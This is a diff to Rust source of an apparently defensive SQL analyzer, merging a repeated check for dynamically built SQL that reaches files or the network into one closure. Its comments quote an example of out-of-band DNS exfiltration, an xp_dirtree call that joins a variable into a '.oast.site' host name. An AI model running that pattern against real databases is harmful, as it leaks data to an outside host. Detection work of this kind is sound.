@@ -618,9 +618,10 @@ struct Executed {
     /// expression longer than [`MAX_EXECUTED`], or strings that together
     /// grow past the folding budget (four times the text, plus 16 KiB).
     unread: Option<Range<usize>>,
-    /// Each expression that is no constant (`'master..xp_dirtree "\\\\' +
-    /// @h + '.oast.site\\a"'`): its literals joined, a variable's place
-    /// kept by one letter, with the span of its statement.
+    /// Each expression that is no constant and builds a host name
+    /// (`'master..xp_dirtree "\\' + @h + '.oast.site\a"'`): its literals
+    /// joined, a variable's place kept by one letter, with the span of its
+    /// statement.
     built: Vec<(String, Range<usize>)>,
 }
 
@@ -1044,10 +1045,13 @@ fn analyze_text(s: &Subject<'_>, out: &mut Vec<Hit>, dollar_literals: bool) {
         // or the network (`EXEC('master..xp_dirtree "\\' + @h +
         // '.oast.site\a"')`: the value read a moment before, sent out by
         // DNS) is judged as the call written out.
-        for (sql, at) in &executed.built {
+        let reaches_out = |sql: &str| {
             let mut inner = Vec::new();
             dangerous_calls(&lex(sql, 0, sql.len(), &GenericDialect {}), true, &mut inner);
-            if inner.iter().any(|(_, rule, _)| *rule == "sql.file-or-network") {
+            inner.iter().any(|(_, rule, _)| *rule == "sql.file-or-network")
+        };
+        for (sql, at) in &executed.built {
+            if reaches_out(sql) {
                 found.push((Confidence::Medium, "sql.file-or-network", at.clone()));
             }
         }
@@ -1055,9 +1059,7 @@ fn analyze_text(s: &Subject<'_>, out: &mut Vec<Hit>, dollar_literals: bool) {
             if escalation_written(&sql).is_some() || catalog_write(&sql).is_some() {
                 found.push((Confidence::Medium, "sql.privilege-write", at.clone()));
             }
-            let mut inner = Vec::new();
-            dangerous_calls(&lex(&sql, 0, sql.len(), &GenericDialect {}), true, &mut inner);
-            if inner.iter().any(|(_, rule, _)| *rule == "sql.file-or-network") {
+            if reaches_out(&sql) {
                 found.push((Confidence::Medium, "sql.file-or-network", at));
             }
         }
